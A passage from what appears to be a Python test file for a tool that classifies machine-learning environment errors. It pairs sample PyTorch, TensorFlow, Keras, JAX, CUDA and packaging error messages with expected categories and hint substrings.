        (tb("ValueError: Invalid filepath extension for saving. Please add either a `.keras` extension for the native Keras format (recommended) or a `.h5` extension. Use `model.export(filepath)` if you want to export a SavedModel for use with TFLite/TFServing/etc. Received: filepath=saved_model.", "keras/src/saving/saving_api"), "api-version-skew:keras_3", "model.export(path)"),
        ("node1: Test CUDA failure common.cu:892 'an illegal memory access was encountered'\n .. node1 pid 1234: Test failure common.cu:842\n", "cuda-error:cuda_error_string", "cudaErrorIllegalAddress"),
        # gloo's pair.cc reads no bytes when the other rank closed its socket: that rank most often died first
        ("RuntimeError: [../third_party/gloo/gloo/transport/tcp/pair.cc:534] Connection closed by peer [10.0.0.2]:23456\n", "nccl-network:gloo_peer_gone", "died first"),
        (tb("RuntimeError: It looks like your LightningModule has parameters that were not used in producing the loss returned by training_step. If this is intentional, you must enable the detection of unused parameters in DDP", "lightning/pytorch/strategies"), "user-code-error:ddp_unused_parameters", "ddp_find_unused_parameters_true"),
        (tb("ValueError: The `save_format` argument is deprecated in Keras 3. Please remove this argument and pass a file path with either `.keras` or `.h5` extension.", "keras/src/saving"), "api-version-skew:keras_3", "TF_USE_LEGACY_KERAS=1"),
        ("deepspeed.ops.op_builder.builder.MissingCUDAException: CUDA_HOME does not exist, unable to compile CUDA op(s)\n", "build-failure:no_cuda_home", "DeepSpeed"),
        (tb("ValueError: Your assigned backend nccl is not available, please use gloo", "accelerate"), "bad-configuration:accelerate_launch_settings", "backend='gloo'"),
        (tb("ImportError: Using `fp8` precision requires `transformer_engine` or `MS-AMP` to be installed.", "accelerate"), "module-not-found:accelerate_needs_package", "Transformer Engine"),
        # torch's shared-memory manager names the errno in its own words
        (tb("RuntimeError: unable to open shared memory object </torch_12_345_6> in read-write mode: Too many open files (24)", "torch/multiprocessing"), "bad-configuration:open_files_limit", "ulimit"),
        # DeepSpeed's launcher names the child's return code, -9 for SIGKILL
        ("[2024-01-01 00:00:00,000] [ERROR] [launch.py:321:sigkill_handler] ['/usr/bin/python', '-u', 'train.py', '--local_rank=0'] exits with return code = -9\n", "out-of-memory:killed_by_kernel", "OOM"),
        # transformers' older words for remote code not allowed
        (tb("ValueError: Loading THUDM/chatglm3-6b requires you to execute the configuration file in that repo on your local machine. Make sure you have read the code there to avoid malicious use, then set the option `trust_remote_code=True` to remove this error.", "transformers"), "user-code-error:remote_code_not_trusted", "THUDM/chatglm3-6b"),
        # TensorFlow's op error after its "Graph execution error:" and a blank line
        (tb("tensorflow.python.framework.errors_impl.InvalidArgumentError: Graph execution error:\n\nrequired broadcastable shapes\n\t [[{{node mean_squared_error/SquaredDifference}}]] [Op:__inference_train_function_1234]", "tensorflow/python/eager"), "user-code-error:more_shapes", "broadcastable shapes: the code and its data"),
        (tb("tensorflow.python.framework.errors_impl.InternalError: Failed copying input tensor from /job:localhost/replica:0/task:0/device:CPU:0 to /job:localhost/replica:0/task:0/device:GPU:0 in order to run _EagerConst: Dst tensor is not initialized.", "tensorflow"), "out-of-memory:tensorflow_oom", "TF_FORCE_GPU_ALLOW_GROWTH"),
        (tb("RuntimeError: Too many open files. Communication with the workers is no longer possible. Please increase the limit using `ulimit -n` in the shell or change the sharing strategy by calling `torch.multiprocessing.set_sharing_strategy('file_system')` at the beginning of your code", "torch/utils/data"), "bad-configuration:open_files_limit", "ulimit"),
        ("The TensorFlow library was compiled to use AVX instructions, but these aren't available on your machine.\nAborted (core dumped)\n", "gpu-arch-unsupported:processor_not_supported", "AVX"),
        (tb("RuntimeError: CUDA error: operation not permitted when stream is capturing", "torch"), "cuda-error:cuda_error_string", "reduce-overhead"),
        # requests' words for a connection to the Hub that never opened
        (tb("requests.exceptions.ConnectionError: (MaxRetryError(\"HTTPSConnectionPool(host='huggingface.co', port=443): Max retries exceeded with url: /bert-base-uncased/resolve/main/config.json (Caused by NewConnectionError('<urllib3.connection.HTTPSConnection object at 0x7f>: Failed to establish a new connection: [Errno 101] Network is unreachable'))\"), '(Request ID: 1234)')", "huggingface_hub"), "bad-configuration:hub_connection_failed", "HTTPS_PROXY"),
        # vLLM's check of a quantization method against the GPU's compute capability
        (tb("ValueError: The quantization method awq is not supported for the current GPU. Minimum capability: 75. Current capability: 70.", "vllm/config"), "gpu-arch-unsupported:gpu_generation_refused", "sm_70"),
        # torch 2.4's words for fp8 matmul's check, with "CUDA devices"
        (tb("RuntimeError: torch._scaled_mm is only supported on CUDA devices with compute capability >= 9.0 or 8.9, or ROCm MI300+", "torch"), "gpu-arch-unsupported:gpu_generation_refused", "sm_90"),
        ("The TensorFlow library was compiled to use SSE4.1 instructions, but these aren't available on your machine.\nAborted (core dumped)\n", "gpu-arch-unsupported:processor_not_supported", "SSE4.1"),
        # TensorFlow 2.11-2.15's form: the frames where the op was defined, "Node: 'name'", then the op's error
        (tb("tensorflow.python.framework.errors_impl.InvalidArgumentError: Graph execution error:\n\nDetected at node 'mse/SquaredDifference' defined at (most recent call last):\n    File \"/home/me/train.py\", line 30, in <module>\n      model.fit(x, y)\nNode: 'mse/SquaredDifference'\nrequired broadcastable shapes\n\t [[{{node mse/SquaredDifference}}]] [Op:__inference_train_function_1234]", "tensorflow/python/eager"), "user-code-error:more_shapes", "broadcastable shapes: the code and its data"),
        # torch's MPS check raised as a RuntimeError, without "The"
        (tb("RuntimeError: MPS backend is supported on MacOS 12.3+.Current OS version can be queried using `sw_vers`", "torch"), "accelerator-unavailable:framework_sees_no_gpu", "macOS 12.3+"),
        # transformers' fast tokenizer converted from a slow one without sentencepiece
        (tb("ValueError: Cannot instantiate this tokenizer from a slow version. If it's based on sentencepiece, make sure you have sentencepiece installed.", "transformers"), "module-not-found:requires_package", "sentencepiece"),
        # torchcodec built for another torch: its loader errors name torch's symbols, which the symbol rule reads
        (tb("RuntimeError: Could not load libtorchcodec. Likely causes:\n          1. FFmpeg is not properly installed in your environment.\n[start of libtorchcodec loading traceback]\nFFmpeg version 7: /env/lib/python3.12/site-packages/torchcodec/libtorchcodec_core7.so: undefined symbol: _ZN3c1013MessageLoggerC1EPKciib\n[end of libtorchcodec loading traceback].", "torchcodec"), "undefined-symbol:undefined_symbol", "torchcodec"),
        (tb("ValueError: Unknown quantization type, got fp8 - supported types are: ['awq', 'bitsandbytes_4bit', 'gptq']", "transformers/quantizers"), "api-version-skew:transformers_too_old", "fp8"),
        (tb("safetensors_rust.SafetensorError: Error while deserializing header: HeaderTooSmall", "safetensors"), "user-code-error:broken_weights_file", "HeaderTooSmall"),
        # TensorFlow's convolution kernels' words for cuDNN not starting
        (tb("tensorflow.python.framework.errors_impl.UnknownError: Failed to get convolution algorithm. This is probably because cuDNN failed to initialize, so try looking to see if a warning log message was printed above. [Op:Conv2D]", "tensorflow/python/eager"), "cuda-library-mismatch:cudnn_did_not_start", "TF_FORCE_GPU_ALLOW_GROWTH"),
        # load_state_dict's size mismatch: the checkpoint's shape against the built model's, by parameter
        (tb("RuntimeError: Error(s) in loading state_dict for ResNet:\n\tsize mismatch for fc.weight: copying a param with shape torch.Size([10, 512]) from checkpoint, the shape in current model is torch.Size([1000, 512]).", "torch/nn/modules/module"), "user-code-error:shapes_and_devices", "fc.weight has shape torch.Size([10, 512]) in the checkpoint and torch.Size([1000, 512]) in the model"),
        # Keras 3's unbuilt model, retold in a sentence of the reporter's
        ("When training with tensorflow 2.16 an error occurred: the layer MLP has never been called and thus has no defined output.\n", "api-version-skew:keras_3", "keras.Input"),
        # TensorFlow's cuBLAS handle that found no memory: TensorFlow's memory growth, not PyTorch's allocator
        ("2018-12-13 21:57:02.545734: E tensorflow/stream_executor/cuda/cuda_blas.cc:464] failed to create cublas handle: CUBLAS_STATUS_ALLOC_FAILED\n2018-12-13 21:57:02.575651: W tensorflow/stream_executor/stream.cc:2127] attempting to perform BLAS operation using StreamExecutor without BLAS support\n", "out-of-memory:library_alloc_failed", "set_memory_growth"),
        # Metal's assertion on a bfloat16 input to an MPS graph: the backend's dtype gap
        ("/AppleInternal/Library/BuildRoots/a1/Library/Caches/com.apple.xbs/Sources/MetalPerformanceShadersGraph/mpsgraph/MetalPerformanceShadersGraph/Core/Files/MPSGraphExecutable.mm:2565: failed assertion `Incompatible element type for parameter at index 1, mlir module expected element type f32 but received bf16'\n", "framework-internal-error:metal_assertion", "bfloat16 only from macOS 14"),
        # the same warning when ROCm finds the GPU but does not support it
        ("/env/torch/cuda/__init__.py:88: UserWarning: HIP initialization: Unexpected error from hipGetDeviceCount(). Did you run some cuda functions before calling NumHipDevices() that might have already set an error? Error 101: hipErrorInvalidDevice (Triggered internally at ../c10/hip/HIPFunctions.cpp:110.)\n", "accelerator-unavailable:hip_could_not_count_gpus", "HSA_OVERRIDE_GFX_VERSION"),
        # a keyword refused by a library function the user's line calls under an alias of its import
        ('Traceback (most recent call last):\n  File "/home/me/blocks.py", line 131, in forward\n    x = attn(q, k, v, scale = self.scale).transpose(1, 2)\nTypeError: scaled_dot_product_attention() got an unexpected keyword argument \'scale\'\n', "api-version-skew:unexpected_keyword", "under the name attn"),
        # a matmul's two operands in two dtypes, in torch's two wordings
        (tb("RuntimeError: expected mat1 and mat2 to have the same dtype, but got: c10::BFloat16 != c10::Half"), "user-code-error:shapes_and_devices", "operands of two dtypes"),
        (tb("RuntimeError: self and mat2 must have the same dtype, but got Half and Char"), "user-code-error:shapes_and_devices", "operands of two dtypes"),
        # a project's notice that its compiled kernel is missing and it falls back
        ("Warning, cannot find cuda-compiled version of RoPE2D, using a slow pytorch version instead.\n", "module-not-found:optional_speedup_missing", "RoPE2D"),
        # a library's quoted name of an optional dependency it needs here
        (tb("ImportError: 'onnxruntime' must be installed to use 'hbredin/wespeaker-voxceleb-resnet34-LM' embeddings.", "pyannote/audio"), "module-not-found:requires_package", "onnxruntime is not installed"),
        # the refused keyword quoted without its exception type or a traceback
        ("load() got an unexpected keyword argument 'backend'\n", "api-version-skew:unexpected_keyword", "another release"),
        # torch counting the GPUs when the driver and runtime could not start (cudaErrorInitializationError)
        ("UserWarning: CUDA initialization: Unexpected error from cudaGetDeviceCount(). Did you run some cuda functions before calling NumCudaDevices() that might have already set an error? Error 3: initialization error (Triggered internally at ../c10/cuda/CUDAFunctions.cpp:108.)\n", "accelerator-unavailable:cuda_could_not_count_gpus", "cudaErrorInitializationError"),
        # pip's access denied in another language: the code and pip's own advice say it
        ("ERROR: Could not install packages due to an OSError: [WinError 5] 拒绝访问。: 'C:\\\\ProgramData\\\\anaconda3\\\\envs\\\\x\\\\Lib\\\\site-packages\\\\pkg'\nConsider using the `--user` option or check the permissions.\n", "disk-or-permission:pip_could_not_write", "belongs to another user"),
        # IPython's prompt and answer
        ("In [3]: torch.cuda.is_available()\nOut[3]: False\n", "accelerator-unavailable:device_not_available_in_a_session", "no usable cuda device"),
        # a model's remote code (trust_remote_code=True) calling an API the installed transformers no longer has
        ('Traceback (most recent call last):\n  File "/home/me/run.py", line 9, in <module>\n    out = model.generate(**inputs)\n  File "/root/.cache/huggingface/modules/transformers_modules/microsoft/Phi-3-mini-4k-instruct/modeling_phi3.py", line 1291, in prepare_inputs_for_generation\n    max_cache_length = past_key_values.get_max_length()\nAttributeError: \'DynamicCache\' object has no attribute \'get_max_length\'\n', "api-version-skew:attribute_that_came_and_went", "without trust_remote_code"),
        # HIP's runtime older than its kernel driver wants, when torch counts the GPUs
        ("/env/torch/cuda/__init__.py:88: UserWarning: HIP initialization: Unexpected error from hipGetDeviceCount(). Did you run some cuda functions before calling NumHipDevices() that might have already set an error? Error 35: hipErrorInsufficientDriver (Triggered internally at ../c10/hip/HIPFunctions.cpp:110.)\n", "accelerator-unavailable:hip_could_not_count_gpus", "amdgpu kernel driver is older"),
        # the same, no ROCm device usable at all: permissions, a container's devices
        ("/env/torch/cuda/__init__.py:88: UserWarning: HIP initialization: Unexpected error from hipGetDeviceCount(). Did you run some cuda functions before calling NumHipDevices() that might have already set an error? Error 3: hipErrorNotInitialized (Triggered internally at ../c10/hip/HIPFunctions.cpp:110.)\n", "accelerator-unavailable:hip_could_not_count_gpus", "/dev/kfd"),
        # cuBLAS without memory under JAX: JAX's preallocation, not TensorFlow's memory growth
        ("jaxlib.xla_extension.XlaRuntimeError: INTERNAL: Attempting to perform BLAS operation using StreamExecutor without BLAS support\n", "out-of-memory:cublas_never_started", "XLA_PYTHON_CLIENT_PREALLOCATE"),
        ("2024-01-01 10:00:00.000 E external/xla/xla/stream_executor/cuda/cuda_blas.cc:190] failed to create cublas handle: CUBLAS_STATUS_ALLOC_FAILED\njaxlib.xla_extension.XlaRuntimeError: INTERNAL: Failed to initialize BLAS support\n", "out-of-memory:library_alloc_failed", "XLA_PYTHON_CLIENT_PREALLOCATE"),
        # a quoted name that is a program, not a package; a module's name that is not its distribution's
        (tb("ImportError: 'ffmpeg' must be installed to decode mp3", "audiolib"), "module-not-found:requires_package", "system program, not a Python package"),
        (tb("ImportError: 'cv2' must be installed to read video", "imglib"), "module-not-found:requires_package", "Install opencv-python"),
        # phonemizer's backends: a system program said "not installed on your system", the library's variable for it
        (tb("RuntimeError: espeak not installed on your system", "phonemizer/backend"), "module-not-found:requires_package", "PHONEMIZER_ESPEAK_LIBRARY"),
        (tb("RuntimeError: festival not installed on your system", "phonemizer/backend"), "module-not-found:requires_package", "not a Python package"),
        # Mosaic's matmul dtype check is the TPU generation's: older TPUs have no bf16 matmul there
        ("jaxlib.xla_extension.XlaRuntimeError: INTERNAL: Mosaic failed to compile TPU kernel: Unsupported input data type in matrix multiplication in this target.\n", "unsupported-op:mosaic_cannot_compile", "Cast the matmul's operands to float32"),
        # the second review's: datasets' other words for a missing column; Mosaic's operand types when it names them
        ("ValueError: Column name ['content'] not in the dataset. Current columns in the dataset: ['text']\n", "user-code-error:dataset_column_missing", "no column 'content'"),
        ("ValueError: Original column name content not in the dataset.\n", "user-code-error:dataset_column_missing", "no column 'content'"),
        ("ValueError: Column to remove ['content'] not in the dataset. Current columns in the dataset: ['text']\n", "user-code-error:dataset_column_missing", "no column 'content'"),
        ("ValueError: Original column names {'content'} not in the dataset. Current columns in the dataset: ['text']\n", "user-code-error:dataset_column_missing", "no column 'content'"),
        # the third review's: XLA's "no supported devices" is the same reading; a TPU that JAX says is there, at INFO
        ("RuntimeError: Unable to initialize backend 'cuda': INTERNAL: no supported devices found for platform CUDA (you may need to uninstall the failing plugin package, or set JAX_PLATFORMS=cpu to skip this backend.)\n", "accelerator-unavailable:jax_sees_no_accelerator", "could not set up the GPU"),
        ("INFO:jax._src.xla_bridge:Unable to initialize backend 'cuda': module 'jaxlib.xla_extension' has no attribute 'GpuAllocatorConfig'\nINFO:jax._src.xla_bridge:Unable to initialize backend 'tpu': ABORTED: The TPU is already in use by process with pid 123\nWARNING:jax._src.xla_bridge:A Google TPU may be present on this machine, but either a TPU-enabled jaxlib or libtpu is not installed. Falling back to cpu.\n", "accelerator-unavailable:jax_sees_no_accelerator", "no TPU backend"),
        ("jaxlib.xla_extension.XlaRuntimeError: INTERNAL: Mosaic failed to compile TPU kernel: Unsupported input data type in matrix multiplication: lhs=i4, rhs=bf16\n", "unsupported-op:mosaic_cannot_compile", "(i4 x bf16)"),
        ('Traceback (most recent call last):\n  File "/home/me/m.py", line 5, in <module>\n    m = tfimm.create_model(model_name="vit/base")\n  File "/env/lib/python3.11/site-packages/keras/src/layers/layer.py", line 40, in add_weight\n    raise ValueError(\nValueError: Argument `name` must be a string and cannot contain character `/`. Received: name=vit/cls_token\n', "api-version-skew:keras_3", "TF_USE_LEGACY_KERAS=1"),
        # the review's: a phonemizer backend of two programs; torch's own _C; a user's own name with '/' under Keras 3
        (tb("RuntimeError: espeak-mbrola not installed on your system", "phonemizer/backend"), "module-not-found:requires_package", "mbrola program and its voices"),
        ('Traceback (most recent call last):\n  File "/content/app/train.py", line 18, in <module>\n    import torch\n  File "/usr/local/lib/python3.10/dist-packages/torch/__init__.py", line 249, in <module>\n    for name in dir(_C):\nNameError: name \'_C\' is not defined\n', "module-not-found:extension_never_imported", "restart it"),
        ('Traceback (most recent call last):\n  File "/home/me/model.py", line 9, in <module>\n    x = layers.Dense(10, name="block1/dense")(x)\n  File "/env/lib/python3.11/site-packages/keras/src/layers/layer.py", line 40, in __init__\n    raise ValueError(\nValueError: Argument `name` must be a string and cannot contain character `/`. Received: name=block1/dense\n', "api-version-skew:keras_3", "rename it without '/'"),
        # datasets' own words for a column it lacks, with the ones it has; a GGUF file that is not one
        ('KeyError: "Column content not in the dataset. Current columns in the dataset: [\'text\', \'label\']"\n', "user-code-error:dataset_column_missing", "its columns: ['text', 'label']"),
        (tb("ValueError: GGUF magic invalid", "gguf/gguf_reader"), "user-code-error:broken_weights_file", "it is no GGUF file"),
        # stable-baselines3's space check: a kind the algorithm does not take is the code's, not gym against gymnasium
        (tb("AssertionError: The algorithm only supports (<class 'gymnasium.spaces.discrete.Discrete'>,) as action spaces but Box(0.0, 1.0, (2,), float32) was provided", "stable_baselines3/common"), "api-version-skew:space_of_another_gym", "was given a Box"),
        (tb("AssertionError: The algorithm only supports (<class 'gymnasium.spaces.box.Box'>,) as action spaces but Box(-1.0, 1.0, (4,), float32) was provided", "stable_baselines3/common"), "api-version-skew:space_of_another_gym", "from gymnasium import spaces"),
        # JAX's GPU plugin loaded and XLA counts no GPU: the driver that did not start, or what hides them
        ("RuntimeError: Unable to initialize backend 'cuda': FAILED_PRECONDITION: No visible GPU devices. (you may need to uninstall the failing plugin package, or set JAX_PLATFORMS=cpu to skip this backend.)\n", "accelerator-unavailable:jax_sees_no_accelerator", "TF_CPP_MIN_LOG_LEVEL=0"),
        ("RuntimeError: Unable to initialize backend 'rocm': FAILED_PRECONDITION: No visible GPU devices.\n", "accelerator-unavailable:jax_sees_no_accelerator", "HIP_VISIBLE_DEVICES"),
        # Keras 3's refusal of a name Keras 2 built from its name scopes: a Keras 2 model or library under Keras 3
        ('"ValueError: Argument `name` must be a string and cannot contain character `/`. Received: name=build_factored_surrogate_posterior/loc_0_momentum"\n', "api-version-skew:keras_3", "TF_USE_LEGACY_KERAS=1"),
        # onnxruntime's refusal of an .onnx file that is not a whole one: the file, named
        (tb("onnxruntime.capi.onnxruntime_pybind11_state.InvalidProtobuf: [ONNXRuntimeError] : 7 : INVALID_PROTOBUF : Load model from /app/models/inswapper_128.onnx failed:Protobuf parsing failed.", "onnxruntime/capi"), "user-code-error:broken_weights_file", "/app/models/inswapper_128.onnx is cut short"),
        # `_C`, the extension a package's own setup.py compiles: its build left it out, not a package to install
        (tb("NameError: name '_C' is not defined", "groundingdino/models"), "module-not-found:extension_never_imported", "reinstall the package from its source folder"),
        # many parameters of another size, a classifier's among them: the count, and transformers' way for a new head
        (tb("RuntimeError: Error(s) in loading state_dict for Net:\n\tsize mismatch for classifier.weight: copying a param with shape torch.Size([10, 768]) from checkpoint, the shape in current model is torch.Size([2, 768]).\n\tsize mismatch for classifier.bias: copying a param with shape torch.Size([10]) from checkpoint, the shape in current model is torch.Size([2]).", "torch/nn/modules/module"), "user-code-error:shapes_and_devices", "(and 1 more parameter)"),
        (tb("RuntimeError: Error(s) in loading state_dict for Net:\n\tsize mismatch for classifier.weight: copying a param with shape torch.Size([10, 768]) from checkpoint, the shape in current model is torch.Size([2, 768]).", "torch/nn/modules/module"), "user-code-error:shapes_and_devices", "ignore_mismatched_sizes=True"),
        # a library's "X is not installed. Please pip install Y": Y is what to install
        (tb("ImportError: flash_attn is not installed. Please pip install flash-attn", "transformers/utils"), "module-not-found:requires_package", "flash-attn"),
        # accelerate's Accelerator as read from its wheels back to 0.12: logging_dir= went in 0.20 (project_dir=)
        (tb("TypeError: Accelerator.__init__() got an unexpected keyword argument 'logging_dir'"), "api-version-skew:constructor_parameter_history", "accelerate<0.20"),
        # a library's own words for a compute-capability floor (Transformer Engine, transformers' FP8 loader)
        (tb("AssertionError: Device compute capability 8.9 or higher required for FP8 execution.", "transformer_engine/pytorch"), "gpu-arch-unsupported:gpu_generation_refused", "FP8 arithmetic exists only on Ada (8.9)"),
        (tb("ValueError: FP8 quantized models is only supported on GPUs with compute capability >= 9.0 (e.g H100)", "transformers/quantizers"), "gpu-arch-unsupported:gpu_generation_refused", "compute capability 9.0 or newer (sm_90)"),
        # another package's code failing inside Dynamo: that package, written for another torch
        ('Traceback (most recent call last):\n  File "/home/me/train.py", line 9, in <module>\n    model(x)\n  File "/env/lib/python3.10/site-packages/torch/_dynamo/output_graph.py", line 1071, in compile_and_call_fx_graph\n    graph_code_log.debug("%s", lazy_format_graph_code(name, gm))\n  File "/env/lib/python3.10/site-packages/depyf/explain/patched_lazy_format_graph_code.py", line 34, in patched_lazy_format_graph_code\n    fn.__code__ = scope[fn.__name__].__code__\ntorch._dynamo.exc.InternalTorchDynamoError: _lazy_forward\n', "framework-internal-error:torch_internal_assert", "the installed depyf was written for another torch release"),
        # Inductor's own assertion, carried by BackendCompilerFailed, named by the pass that holds it
        ('Traceback (most recent call last):\n  File "/home/me/train.py", line 9, in <module>\n    f(x)\n  File "/env/lib/python3.11/site-packages/torch/_inductor/fx_passes/post_grad.py", line 653, in reinplace_scatters\n    assert node.args[0].op == "placeholder"\ntorch._dynamo.exc.BackendCompilerFailed: backend=\'inductor\' raised:\nAssertionError:\n', "framework-internal-error:broken_internal_invariant", "failed in reinplace_scatters (/env/lib/python3.11/site-packages/torch/_inductor/fx_passes/post_grad.py:653"),
        # pip's check after an install, one line for each requirement it broke: all of them named
        ("ERROR: pip's dependency resolver does not currently take into account all the packages that are installed. This behaviour is the source of the following dependency conflicts.\nimageio 2.34.0 requires pillow<10.1.0,>=8.3.2, but you have pillow 10.2.0 which is incompatible.\ntorchvision 0.17.1 requires torch==2.2.1, but you have torch 2.1.0 which is incompatible.\n", "resolver-conflict:conflicting_requirements", "torchvision requires torch==2.2.1 (installed: torch 2.1.0)"),
        # xformers' dispatcher: a kernel that stops at an older architecture than the GPU's (too new), named
        ("NotImplementedError: No operator found for `memory_efficient_attention_forward` with inputs:\n     query       : shape=(2, 4096, 8, 40) (torch.float16)\n     p           : 0.0\n`fa3F@0.0.0` is not supported because:\n    requires device with capability <= (9, 0) but your GPU has capability (12, 0) (too new)\n`cutlassF-pt` is not supported because:\n    requires device with capability <= (9, 0) but your GPU has capability (12, 0) (too new)\n", "gpu-arch-unsupported:gpu_too_old", "xformers' attention kernels (fa3F, cutlassF-pt) were built for (up to 9.0)"),
        # its older wording, whose "> 7.5" checks `capability < (7, 5)` (flash.py): 7.5 itself qualifies; the kernel named
        ("ValueError: Operator `memory_efficient_attention` does not support inputs:\n     query       : shape=(1, 4101, 32, 128) (torch.float16)\n     p           : 0.0\n`flshattF` is not supported because:\n    requires a GPU with compute capability > 7.5\n", "gpu-arch-unsupported:library_refuses_gpu", "compute capability 7.5 or newer for its kernel flshattF"),
        # a refusal listing the generations it runs on: the first is the floor
        ("terminate called after throwing an instance of 'tensorrt_llm::common::TllmException'\n  what():  [TensorRT-LLM][ERROR] Assertion failed: FP8 FMHA cannot be enabled except on Ada or Hopper or Blackwell Arch. (/code/tensorrt_llm/cpp/tensorrt_llm/common/attentionOp.cpp:2357)\n", "gpu-arch-unsupported:library_refuses_gpu", "compute capability 8.9 or newer"),
        # cuDNN frontend's and vLLM's words for a kernel of one generation: Hopper and newer, or Hopper alone
        ("RuntimeError: sdpa fp8 forward operation is only supported on Hopper architecture and newer. Please consider using a newer architecture.\n", "gpu-arch-unsupported:library_refuses_gpu", "compute capability 9.0 or newer"),
        ("ValueError: No valid attention backend found for cuda. Reasons: FlashMLA Dense is only supported on Hopper devices.\n", "gpu-arch-unsupported:library_refuses_gpu", "9.0, Hopper GPUs only"),
        # flash-attn's backward of wide heads: the data-centre GPUs only, with the release that widened it
        ("RuntimeError: FlashAttention backward for head dim > 192 requires A100/A800 or H100/H800\n", "gpu-arch-unsupported:gpu_models_required", "2.5.5 and newer run head dim 256 backward"),
        # torchaudio's FFmpeg extension: FFmpeg's own libraries, not libsox
        ("RuntimeError: load_audio requires ffmpeg extension which is not available. Please refer to the stacktrace above for how to resolve this.\n", "missing-library:torchaudio_extension_unavailable", "FFmpeg's shared libraries"),
        # TensorRT on a GPU older than its release supports (TensorRT 10 on Pascal)
        ("[TRT] [E] IBuilder::buildSerializedNetwork: Error Code 1: Internal Error (Unsupported SM: 0x601)\n", "gpu-arch-unsupported:tensorrt_unknown_sm", "older than the ones this TensorRT release still supports"),
        # TensorRT-LLM's C++ runtime's words for the same count
        ("RuntimeError: [TensorRT-LLM][ERROR] Assertion failed: mpiSize == tp * pp (/home/jenkins/agent/workspace/LLM/release-0.8/L0_PostMerge/tensorrt_llm/cpp/tensorrt_llm/runtime/worldConfig.cpp:90)\n", "bad-configuration:engine_built_for_another_world_size", "mpirun -n"),
        # cuda-python's `cuda` is a namespace by design: an API it moved, not a build that failed; pip knows cuda-python
        ('Traceback (most recent call last):\n  File "/apps/app/platform_info.py", line 21, in <module>\n    from cuda import cudart\nImportError: cannot import name \'cudart\' from \'cuda\' (unknown location)\n', "api-version-skew:cannot_import_name", "Install the cuda-python release it was written for"),
        # PyTorch's test-only dependency imported by torch.compile: torch's regression
        ("torch._dynamo.exc.BackendCompilerFailed: backend='debug_wrapper' raised:\nModuleNotFoundError: No module named 'expecttest'\n", "module-not-found:no_module_named", "test-only dependency of PyTorch"),
        # a refusal listing generations: the oldest is the floor; "(sm80+)" is "and newer"
        ("RuntimeError: this kernel is only supported on Hopper or Ada GPUs\n", "gpu-arch-unsupported:library_refuses_gpu", "compute capability 8.9 or newer"),
        ("RuntimeError: Marlin FP8 is only supported on Ampere GPUs (sm80+)\n", "gpu-arch-unsupported:library_refuses_gpu", "compute capability 8.0 or newer"),
        # a model named alone: its architecture, and no word of shared memory (that is flash-attn's own reason)
        ("RuntimeError: FP8 GEMM requires H100\n", "gpu-arch-unsupported:gpu_models_required", "only on H100 (sm_90), and this GPU is none of them. Use"),
        # TensorRT 10 supports Turing: 0x705 is a GPU newer than an older release, not one too old for this one
        ("[TRT] [E] 1: Internal Error (Unsupported SM: 0x705)\n", "gpu-arch-unsupported:tensorrt_unknown_sm", "newer than that TensorRT release"),
        # DeepSpeed releases without a space before the numbers; a train size no process count explains
        ("AssertionError: Check batch related parameters. train_batch_size is not equal to micro_batch_per_gpu * gradient_acc_step * world_size10 != 4 * 1 * 2\n", "bad-configuration:deepspeed_batch_sizes_do_not_multiply", "world_size 2 (= 8). Set train_batch_size to their product"),
        # a 4-bit model under a bitsandbytes older than 0.43.2: transformers asks for the newer release, no code fault
        ("ValueError: Calling `to()` is not supported for `4-bit` quantized models with the installed version of bitsandbytes. The current device is `cuda:0`. If you intended to move the model, please install bitsandbytes >= 0.43.2.\n", "user-code-error:quantized_model_moved_or_cast", "only with bitsandbytes 0.43.2 or newer"),
        # cuda() of a 4-bit model under transformers 4.4x returns nothing once bitsandbytes allows it: to() is advised
        ("ValueError: Calling `cuda()` is not supported for `4-bit` quantized models with the installed version of bitsandbytes. The current device is `cpu`. If you intended to move the model, please install bitsandbytes >= 0.43.2.\n", "user-code-error:quantized_model_moved_or_cast", "model = model.to('cuda')"),
        # 4 and 16 channels outside a diffusion stack: a network's own shapes, no VAE named
        ("RuntimeError: Given groups=1, weight of size [64, 16, 3, 3], expected input[8, 4, 32, 32] to have 16 channels, but got 4 channels instead\n", "user-code-error:more_shapes", "the code and its data"),
        # a jitted function's argument that is no array, with its path
        ("TypeError: Error interpreting argument to <function step at 0x7f0> as an abstract array. The problematic value is of type <class 'str'> and was passed to the function at path mode.\n", "user-code-error:not_an_array_given_to_jax", "of <class 'str'> (at mode)"),
        # Keras 3's ModelCheckpoint, save_weights and model.save wordings; a call of the user's own is a name to change
        ("ValueError: When using `save_weights_only=True` in `ModelCheckpoint`, the filepath provided must end in `.weights.h5` (Keras weights format). Received: filepath=ckpt.h5\n", "api-version-skew:keras3_file_format", "TF_USE_LEGACY_KERAS=1"),
        ('Traceback (most recent call last):\n  File "/home/me/train.py", line 40, in <module>\n    model.save_weights("/tmp/model.keras")\n  File "/usr/lib/python3.11/site-packages/keras/src/utils/traceback_utils.py", line 122, in error_handler\n    raise e.with_traceback(filtered_tb) from None\n  File "/usr/lib/python3.11/site-packages/keras/src/saving/saving_api.py", line 245, in save_weights\n    raise ValueError(\nValueError: The filename must end in `.weights.h5`. Received: filepath=/tmp/model.keras\n', "api-version-skew:keras3_file_format", "Your code at /home/me/train.py:40 gives /tmp/model.keras, which that call does not take"),
        # a plugin's warning that what it runs in is an outdated version: versions that do not fit, in its words
        ("[WARN] ComfyUI-Impact-Pack: `ComfyUI` or `ComfyUI-Manager` is an outdated version.\n", "version-mismatch:versions_do_not_fit", "Versions that do not fit together"),
        # a custom operator without a fake kernel: its author's to register, not torch's gap
        ("torch._subclasses.fake_tensor.UnsupportedOperatorException: mylib.fused_rope.default\n", "unsupported-op:no_fake_kernel", '@torch.library.register_fake("mylib::fused_rope")'),
        # under torch.compile, a backward traced for inference: the call changes, under torch.no_grad()
        ("[Inductor] RuntimeError: derivative for aten::heaviside is not implemented\n", "unsupported-op:no_derivative_formula", "call the compiled model under torch.no_grad()"),
        # JAX's coordination service names the task by its number alone in some releases
        ("ABORTED: 5 unexpectedly tried to connect with a different incarnation\n", "user-code-error:jax_task_connected_twice", "Task 5 connected"),
        # review: Keras 3's refusal with no frames says whose call decides; a speech model's input_values are an input
        ("ValueError: The filepath provided must end in `.keras` (Keras model format). Received: filepath=/tmp/NKB.hdf5\n", "api-version-skew:keras3_file_format", "The traceback's last frame outside keras says whose it is"),
        ("ValueError: Unable to create tensor, you should probably activate truncation and/or padding with 'padding=True' 'truncation=True' to have batched tensors with the same length. Perhaps your features (`input_values` in this case) have excessive nesting (inputs type `list` where type `int` is expected).\n", "user-code-error:tokenized_batch_of_unequal_lengths", "The rows of a tokenized batch have different lengths"),
